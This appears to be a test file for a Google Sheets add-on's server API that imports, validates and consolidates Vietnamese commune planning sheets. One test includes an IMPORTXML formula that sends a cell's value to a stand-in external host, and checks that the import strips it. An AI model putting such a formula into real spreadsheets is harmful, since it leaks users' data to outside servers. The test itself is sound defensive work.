/**
 * The server's API before bundling (native promises), over SheetsWorkbook on the strict fake:
 * what the browser sends is checked, uploaded sheets never replace a tab, names stay legal.
 */
import { SheetsWorkbook } from '../src/server/sheets-port';
import type { ServerEnv } from '../src/server/api';
import { IMPORT_CELL_LIMIT, WORK_BUDGET_MS, checkLayout, cleanSheetName, createServerApi, uniqueSheetName } from '../src/server/api';
import type { DocumentState } from '../../core/src/port/types';
import type { SheetLayout } from '../../core/src/layout/types';
import type { ImportRequest, ImportResult } from '../src/server/entry-points';
import type { Call } from '../src/sidebar/call';
import { importRequestRemote } from '../src/sidebar/xlsx-import';
import { communePlanLayouts } from './data';
import { buildMenu, errorLine, splitEmails } from '../src/server/menu';
import { MENU_ITEMS } from '../src/server/entry-points';
import { protectCommuneSheet } from '../src/server/protect';
import { communeVillages } from './data';
import { FakeUi } from './fake-apps-script';
import { FakeSpreadsheet } from './fake-spreadsheet';
import type { UiSurface } from '../src/server/menu';

function api(ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] })) {
  const port = new SheetsWorkbook(ss, ss.properties, ss.host());
  return {
    ss,
    api: createServerApi({
      port,
      selectCell: (sheet, cell) => void ss.sheet(sheet).getRange(cell).activate(),
      protect: (sheet, options) => protectCommuneSheet(ss, sheet, options, ss.protectDeps()),
      now: () => 0,
      lock: { lockService: ss.locks, flush: () => ss.app.flush() },
    }),
  };
}

describe('tab names', () => {
  it('cleans what Sheets refuses and keeps 31 characters', () => {
    expect(cleanSheetName('Xã Tân Lập: II.6/B [bản 2]')).toBe('Xã Tân Lập II.6 B bản 2');
    expect(cleanSheetName("'Thôn A'")).toBe('Thôn A');
    expect(cleanSheetName('_lkh')).toBe('Trang _lkh');
    expect(cleanSheetName('')).toBe('Trang');
    expect(cleanSheetName('x'.repeat(40))).toHaveLength(31);
  });

  it('never takes a name in use, whatever the case', () => {
    expect(uniqueSheetName('II.6.B', ['ii.6.b'])).toBe('II.6.B (2)');
    expect(uniqueSheetName('II.6.B', ['II.6.B', 'II.6.B (2)'])).toBe('II.6.B (3)');
    expect(uniqueSheetName('y'.repeat(31), ['y'.repeat(31)])).toBe(`${'y'.repeat(27)} (2)`);
  });
});

describe('importSheets', () => {
  it('adds the sheets as new tabs with their forms recorded, beside a tab of the same name', async () => {
    const { ss, api: a } = api(FakeSpreadsheet.fromArrays({ 'Thôn 1 - I.2': [['typed by hand']] }));
    const [layout] = communeVillages(0, 1);
    const r = await a.importSheets({ file: 'thon.xlsx', sheets: [{ layout, formId: 'I.2' }] });
    expect(r).toEqual({ sheets: ['Thôn 1 - I.2 (2)'], forms: { 'Thôn 1 - I.2 (2)': 'I.2' } });
    expect(ss.sheet('Thôn 1 - I.2').getDataRange().getValues()).toEqual([['typed by hand']]);
    expect((await a.validate()).forms).toEqual(expect.arrayContaining([{ sheet: 'Thôn 1 - I.2 (2)', formId: 'I.2' }]));
  });

  it('remembers each tab’s file and date: the version chooser of two versions of one sheet names them', async () => {
    const { api: a } = api();
    const [layout] = communeVillages(0, 1);
    const changed = { ...layout, cells: layout.cells.map((c) => (typeof c.value === 'number' && c.value > 1000 ? { ...c, value: c.value + 1000 } : c)) };
    const before = new Date().toISOString();
    await a.importSheets({ file: 'Thon-1.xlsx', sheets: [{ layout, formId: 'I.2', modified: '2026-04-02T09:30:00.000Z' }] });
    await a.importSheets({ file: 'Thon-1 (gửi lại).xlsx', sheets: [{ layout: changed, formId: 'I.2' }] });
    const view = await a.consolidate();
    const [c] = view.conflicts ?? [];
    expect(c?.candidates.map((x) => [x.sheet, x.file, x.modified])).toEqual([
      ['Thôn 1 - I.2', 'Thon-1.xlsx', '2026-04-02T09:30:00.000Z'],
      ['Thôn 1 - I.2 (2)', 'Thon-1 (gửi lại).xlsx', undefined],
    ]);
    for (const x of c?.candidates ?? []) expect((x.imported ?? '') >= before).toBe(true);
  });

  it('writes values only: a formula that is not a plain sum of cells never reaches the spreadsheet', async () => {
    const { ss, api: a } = api();
    const [layout] = communeVillages(0, 1);
    const evil = {
      ...layout,
      name: 'Thôn X - I.2',
      cells: [
        ...layout.cells,
        { row: 40, col: 0, value: 'ok', style: 'text' as const, formula: 'IMPORTXML("https://example.invalid/?"&B2,"//a")' },
        { row: 41, col: 0, value: 7, style: 'number' as const, formula: 'A1+B1' },
      ],
    };
    const r = await a.importSheets({ file: 'thon-x.xlsx', sheets: [{ layout: evil }] });
    const sheet = ss.sheet(r.sheets[0]);
    expect(sheet.getRange(41, 1).getFormulas()).toEqual([[""]]);
    expect(sheet.getRange(41, 1).getValues()).toEqual([["ok"]]);
    expect(sheet.getRange(42, 1).getFormulas()).toEqual([["=A1+B1"]]);
  });

  it('refuses what is not a layout, or too much for one call', async () => {
    const { api: a } = api();
    await expect(a.importSheets({ file: 'x', sheets: [{ layout: { name: 'A' } }] } as never)).rejects.toThrow(/Dữ liệu gửi từ bảng điều khiển không hợp lệ/);
    const [layout] = communeVillages(0, 1);
    const bad = { ...layout, cells: [{ row: -1, col: 0, value: 'x', style: 'text' }] };
    expect(() => checkLayout(bad)).toThrow(/ô của trang/);
    expect(() => checkLayout({ ...layout, cells: [{ row: 0, col: 0, value: { evil: true }, style: 'text' }] })).toThrow(/giá trị ô/);
    const huge = { ...layout, cells: Array.from({ length: IMPORT_CELL_LIMIT + 1 }, (_, i) => ({ row: i, col: 0, value: 1, style: 'number' })) };
    await expect(a.importSheets({ file: 'to.xlsx', sheets: [{ layout: huge }] } as never)).rejects.toThrow(/quá nhiều để ghi trong một lần/);
  });
});

describe('requests from the browser', () => {
  it('rollUp refuses negative funds; protectSheet refuses roll-up sheets and malformed requests', async () => {
    const { api: a } = api();
    await expect(a.rollUp({ funds: -5 })).rejects.toThrow('Số vốn cấp trên nắm giữ phải là một số không âm');
    await expect(a.protectSheet({ sheet: 'Tổng hợp theo lĩnh vực', editors: ['a@b.vn'] })).rejects.toThrow(/không phải trang của một xã/);
    await expect(a.protectSheet({ sheet: 'Trang tính1', editors: 'a@b.vn' } as never)).rejects.toThrow(/bảo vệ trang/);
  });

  it('exportData sends the package sheets recorded in the state', async () => {
    const { api: a } = api();
    const [layout] = communeVillages(0, 1);
    await a.importSheets({ file: 'x', sheets: [{ layout: { ...layout, name: 'Bản II.6.B' }, formId: 'II.6.B' }] });
    const d = await a.exportData();
    expect(d.sheets.map((s) => s.name)).toEqual(['Bản II.6.B']);
    expect(d.state.sheetForms).toEqual({ 'Bản II.6.B': 'II.6.B' });
  });
});

describe('menu', () => {
  it('lists the items in order, the protection apart', () => {
    const ui = new FakeUi();
    buildMenu(ui as unknown as UiSurface);
    expect(ui.menus[0].items).toEqual([...MENU_ITEMS.slice(0, 3).map((m) => ({ caption: m.caption, fn: m.fn })), 'separator', { caption: MENU_ITEMS[3].caption, fn: MENU_ITEMS[3].fn }]);
  });

  it('errors become one line, addresses are split', () => {
    expect(errorLine(new Error('Exception: Có người khác đang cập nhật.\n    at x (Code:1)'))).toBe('Có người khác đang cập nhật.');
    expect(errorLine(undefined)).toMatch(/lỗi không mong muốn/);
    expect(splitEmails(' a@b.vn, c@d.vn;e@f.vn  g@h.vn ')).toEqual(['a@b.vn', 'c@d.vn', 'e@f.vn', 'g@h.vn']);
  });
});

describe('the grid of a tab made from a layout', () => {
  it('keeps the layout plus spare rows and columns, not the default 1000 × 26', async () => {
    const { ss, api: a } = api();
    const [layout] = communeVillages(0, 1);
    await a.importSheets({ file: 'thon.xlsx', sheets: [{ layout, formId: 'I.2' }] });
    const sheet = ss.sheet('Thôn 1 - I.2');
    const used = sheet.getDataRange();
    expect(sheet.getMaxRows()).toBeLessThanOrEqual(Math.max(layout.print.area.rows, used.getNumRows()) + 100);
    expect(sheet.getMaxRows()).toBeGreaterThanOrEqual(used.getNumRows() + 100);
    expect(sheet.getMaxColumns() * sheet.getMaxRows()).toBeLessThan(26_000 / 2);
    expect(ss.calls.flush).toBe(1);
  });
});

describe('the roll-up and the 6-minute limit', () => {
  it('stops before writing anything when reading took too long', async () => {
    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
    let clock = 0;
    const port = new SheetsWorkbook(ss, ss.properties, ss.host());
    const a = createServerApi({
      port,
      selectCell: () => undefined,
      protect: () => Promise.reject(new Error('not used')),
      lock: { lockService: ss.locks, flush: () => ss.app.flush() },
      now: () => (clock += 100_000),
      readBudgetMs: 150_000,
    });
    const plan = await communePlanLayouts(0, { forms: ['II.6.B'] });
    await a.importSheets({ file: 'x', sheets: plan.sheets });
    const before = ss.getSheets().map((s) => s.getName());
    await expect(a.rollUp({})).rejects.toThrow(/chưa ghi gì\. Hãy để mỗi xã chỉ các trang II\.6\.A, II\.6\.B/);
    expect(ss.getSheets().map((s) => s.getName())).toEqual(before);
    expect(ss.locks.documentLock.held).toBe(false);
  });
});

/** The api over `port` (default: SheetsWorkbook on `ss`), with env overrides (clock, budgets). */
function apiOver(ss: FakeSpreadsheet, port: SheetsWorkbook = new SheetsWorkbook(ss, ss.properties, ss.host()), env: Partial<ServerEnv> = {}) {
  return createServerApi({
    port,
    selectCell: () => undefined,
    protect: () => Promise.reject(new Error('not used')),
    now: () => 0,
    lock: { lockService: ss.locks, flush: () => ss.app.flush() },
    ...env,
  });
}

/** What a test compares to prove nothing was written: the tabs, and the state's properties. */
function snapshot(ss: FakeSpreadsheet): { sheets: string[]; properties: Record<string, string> } {
  return { sheets: ss.getSheets().map((sh) => sh.getName()), properties: ss.properties.getProperties() };
}

/**
 * SheetsWorkbook on the fake where, right after this execution's first state read, another
 * execution (another user's sidebar, a consolidation) reads the state, changes it and writes it
 * whole under the document lock. Holding the lock, it runs at once; when this execution holds the
 * lock, it waits for its release (run by `releaseWaiting`), as LockService makes it wait.
 */
class ContendedWorkbook extends SheetsWorkbook {
  readonly readsWhileLocked: boolean[] = [];
  private waiting: (() => Promise<void>)[] = [];
  private interleaved = false;

  constructor(
    private readonly fake: FakeSpreadsheet,
    private readonly other: (s: DocumentState) => DocumentState,
  ) {
    super(fake, fake.properties, fake.host());
  }

  override async readState(): Promise<DocumentState> {
    const state = await super.readState();
    this.readsWhileLocked.push(this.fake.locks.documentLock.held);
    if (!this.interleaved) {
      this.interleaved = true;
      const otherPort = new SheetsWorkbook(this.fake, this.fake.properties, this.fake.host());
      const otherExecution = async () => otherPort.writeState(this.other(await otherPort.readState()));
      if (this.fake.locks.documentLock.held) this.waiting.push(otherExecution);
      else await otherExecution();
    }
    return state;
  }

  async releaseWaiting(): Promise<void> {
    for (const run of this.waiting.splice(0)) await run();
  }
}

describe('every read-modify-write of the state under one document lock', () => {
  const merges = [['thon-1:be-tong', 'thon-2:be-tong']];
  /** The other execution: a consolidation recording its accepted merges. */
  const consolidation = (s: DocumentState): DocumentState => ({ ...s, extra: { ...(s.extra ?? {}), acceptedMerges: merges } });

  it.each([
    ['saveSettings', (a: ReturnType<typeof apiOver>) => a.saveSettings({ level: 'xa', period: '2021-2025', upperLevelName: 'Huyện Bắc Hà', planYear: 2027 })],
    ['setChecklistTick', (a: ReturnType<typeof apiOver>) => a.setChecklistTick('buoc1', true)],
    ['setChecklistDates', (a: ReturnType<typeof apiOver>) => a.setChecklistDates('buoc1', { start: '2026-06-01', end: '2026-06-30' })],
  ])('%s reads the state holding the lock, so a write of another execution meanwhile is not lost', async (_name, run) => {
    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
    const port = new ContendedWorkbook(ss, consolidation);
    const a = apiOver(ss, port);
    await run(a);
    expect(port.readsWhileLocked[0]).toBe(true);
    expect(ss.locks.documentLock.held).toBe(false);
    // One lock for the whole call: the port's own write nests in it (one tryLock, one flush).
    expect(ss.locks.documentLock.tries).toHaveLength(1);
    expect(ss.calls.flush).toBe(1);
    await port.releaseWaiting();
    const state = await new SheetsWorkbook(ss, ss.properties, ss.host()).readState();
    expect(state.extra?.acceptedMerges).toEqual(merges);
  });

  it('keeps both the settings and the tick of two calls crossing', async () => {
    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
    const tickPort = new ContendedWorkbook(ss, (s) => ({ ...s, level: 'xa', period: '2026-2030', upperLevelName: 'Tỉnh Lào Cai', planYear: 2028 }));
    await apiOver(ss, tickPort).setChecklistTick('buoc2', true);
    await tickPort.releaseWaiting();
    const a = apiOver(ss);
    expect(await a.getSettings()).toMatchObject({ period: '2026-2030', planYear: 2028, upperLevelName: 'Tỉnh Lào Cai' });
    const state = await new SheetsWorkbook(ss, ss.properties, ss.host()).readState();
    expect(JSON.stringify(state.extra)).toContain('buoc2');
  });
});

describe('settings checked before anything is written', () => {
  it('refuses a period "1999" or a year out of range with the Vietnamese message, writing nothing', async () => {
    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
    const a = apiOver(ss);
    await a.saveSettings({ level: 'xa', period: '2021-2025', upperLevelName: 'Huyện', planYear: 2027 });
    const before = snapshot(ss);
    const tries = ss.locks.documentLock.tries.length;
    await expect(a.saveSettings({ level: 'xa', period: '1999', upperLevelName: 'Huyện' } as never)).rejects.toThrow(
      'Giai đoạn chương trình "1999" không hợp lệ: phải là 2016-2020, 2021-2025 hoặc 2026-2030.',
    );
    await expect(a.saveSettings({ level: 'xa', period: '2021-2025', upperLevelName: 'Huyện', planYear: 1999 })).rejects.toThrow('Năm kế hoạch 1999 không hợp lệ: phải là số nguyên từ 2000 đến 2100.');
    await expect(a.saveSettings({ level: 'xa', period: '2021-2025', upperLevelName: 'Huyện', colour: 'red' } as never)).rejects.toThrow('Cài đặt không có mục "colour".');
    expect(snapshot(ss)).toEqual(before);
    expect(ss.locks.documentLock.tries).toHaveLength(tries);
    expect(await a.getSettings()).toMatchObject({ period: '2021-2025', planYear: 2027 });
  });

  it('reads a damaged state without its bad fields: defaults shown, consolidation runs, the state repaired', async () => {
    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
    const raw = new SheetsWorkbook(ss, ss.properties, ss.host());
    const a = apiOver(ss, raw);
    await a.importSheets({ file: 'thon.xlsx', sheets: communeVillages(0, 2).map((layout) => ({ layout, formId: 'I.2' as const })) });
    const sound = await raw.readState();
    await raw.writeState({ ...sound, period: '1999', planYear: 'abc', level: 'xa', sheetForms: { ...sound.sheetForms, 'Trang tính1': 'Z.9' }, extra: 'hỏng' } as never);
    expect(await a.getSettings()).toEqual({ level: 'xa', period: '2026-2030', upperLevelName: 'Tỉnh' }); // defaults of a plan made now
    const view = await a.consolidate();
    expect(view.sheets).toEqual(expect.arrayContaining(['II.4.B', 'II.6.B']));
    const after = await raw.readState();
    expect(after.period).toBe('2026-2030'); // the period of plan year 2027
    expect(after.planYear).toBe(2027); // "abc" dropped; the year the villages' I.2 give
    expect(after.sheetForms?.['Trang tính1']).toBeUndefined();
    expect(after.sheetForms?.['Thôn 1 - I.2']).toBe('I.2');
  });
});

describe('consolidate and importSheets within the 6-minute limit', () => {
  it('consolidate stops before writing, the spreadsheet unchanged, when reading took past the budget', async () => {
    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
    let clock = 0;
    /** Reading a tab takes 100 s on this clock. */
    class SlowReads extends SheetsWorkbook {
      override async readSheets(...args: Parameters<SheetsWorkbook['readSheets']>) {
        clock += 100_000 * args[0].length;
        return super.readSheets(...args);
      }
    }
    const a = apiOver(ss, new SlowReads(ss, ss.properties, ss.host()), { now: () => clock });
    await a.importSheets({ file: 'thon.xlsx', sheets: communeVillages(0, 3).map((layout) => ({ layout, formId: 'I.2' as const })) });
    const before = snapshot(ss);
    clock = 0;
    await expect(a.consolidate()).rejects.toThrow(/giới hạn 6 phút của Google; kế hoạch chưa thay đổi \(chưa ghi gì\)\. Hãy tổng hợp ít trang hơn/);
    expect(snapshot(ss)).toEqual(before);
    expect(ss.locks.documentLock.held).toBe(false);
    // Within the budget the same consolidation writes the plan.
    clock = 0;
    const done = await apiOver(ss, new SlowReads(ss, ss.properties, ss.host()), { now: () => clock, workBudgetMs: 10 * WORK_BUDGET_MS }).consolidate();
    expect(done.sheets).toEqual(expect.arrayContaining(['II.4.A', 'II.4.B', 'II.6.A', 'II.6.B', 'II.6.C']));
  });

  /** SheetsWorkbook where creating a sheet takes `ms` on the clock. */
  function slowCreates(ss: FakeSpreadsheet, clock: { t: number }, ms: number): SheetsWorkbook {
    class SlowCreates extends SheetsWorkbook {
      override async createSheet(...args: Parameters<SheetsWorkbook['createSheet']>) {
        clock.t += ms;
        return super.createSheet(...args);
      }
    }
    return new SlowCreates(ss, ss.properties, ss.host());
  }

  const villages = (n: number) => communeVillages(0, n).map((layout) => ({ layout, formId: 'I.2' as const }));

  it('importSheets out of time before its first sheet writes nothing and says which sheets were not written', async () => {
    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
    const clock = { t: 0 };
    class SlowList extends SheetsWorkbook {
      override async listSheets() {
        clock.t += WORK_BUDGET_MS + 1;
        return super.listSheets();
      }
    }
    const a = apiOver(ss, new SlowList(ss, ss.properties, ss.host()), { now: () => clock.t });
    const before = snapshot(ss);
    const r = await a.importSheets({ file: 'thon.xlsx', sheets: villages(2) });
    expect(r).toEqual({ sheets: [], forms: {}, notCreated: ['Thôn 1 - I.2', 'Thôn 2 - I.2'], message: expect.stringContaining('chưa ghi trang nào; 2 trang chưa ghi (Thôn 1 - I.2, Thôn 2 - I.2)') });
    expect(r.message).toMatch(/Mỗi trang được ghi trọn vẹn hoặc không ghi gì/);
    expect(snapshot(ss)).toEqual(before);
    expect(ss.locks.documentLock.held).toBe(false);
  });

  it('importSheets writes whole sheets while time remains, records only those, and the sidebar sends the rest in new calls', async () => {
    const ss = FakeSpreadsheet.fromArrays({ 'Trang tính1': [] });
    const clock = { t: 0 };
    const a = apiOver(ss, slowCreates(ss, clock, 200_000), { now: () => clock.t });
    const request: ImportRequest = { file: 'thon.xlsx', sheets: villages(3) };
    const first = await a.importSheets(request);
    expect(first.sheets).toEqual(['Thôn 1 - I.2']);
    expect(first.notCreated).toEqual(['Thôn 2 - I.2', 'Thôn 3 - I.2']);
    expect(first.message).toMatch(/^Tệp "thon\.xlsx": đã ghi 1 trang \(Thôn 1 - I\.2\); 2 trang chưa ghi/);
    expect((await a.exportData()).state.sheetForms).toEqual({ 'Thôn 1 - I.2': 'I.2' });
    expect(ss.getSheets().map((sh) => sh.getName())).toEqual(['Trang tính1', 'Thôn 1 - I.2']);

    // The sidebar continues: one new call per sheet here (each call has its own 6 minutes).
    const calls: ImportRequest[] = [];
    const call = ((name: string, req: ImportRequest): Promise<ImportResult> => {
      expect(name).toBe('importSheets');
      calls.push(req);
      return a.importSheets(req);
    }) as unknown as Call;
    const rest: ImportRequest = { file: 'thon.xlsx', sheets: request.sheets.slice(1) };
    expect(await importRequestRemote(call, rest)).toEqual(['Thôn 2 - I.2', 'Thôn 3 - I.2']);
    expect(calls.map((c) => c.sheets.map((sh) => sh.layout.name))).toEqual([['Thôn 2 - I.2', 'Thôn 3 - I.2'], ['Thôn 3 - I.2']]);
    expect((await a.exportData()).state.sheetForms).toEqual({ 'Thôn 1 - I.2': 'I.2', 'Thôn 2 - I.2': 'I.2', 'Thôn 3 - I.2': 'I.2' });
  });

  it('the sidebar stops with the message when a call could write no sheet', async () => {
    const layout = { name: 'A' } as SheetLayout;
    const call = (() => Promise.resolve({ sheets: [], forms: {}, notCreated: ['A'], message: 'Tệp "a.xlsx": chưa ghi trang nào.' })) as unknown as Call;
    await expect(importRequestRemote(call, { file: 'a.xlsx', sheets: [{ layout }] }, ['Thôn 1 - I.2'])).rejects.toThrow('Tệp "a.xlsx": chưa ghi trang nào. Các trang đã tạo: Thôn 1 - I.2.');
  });
});
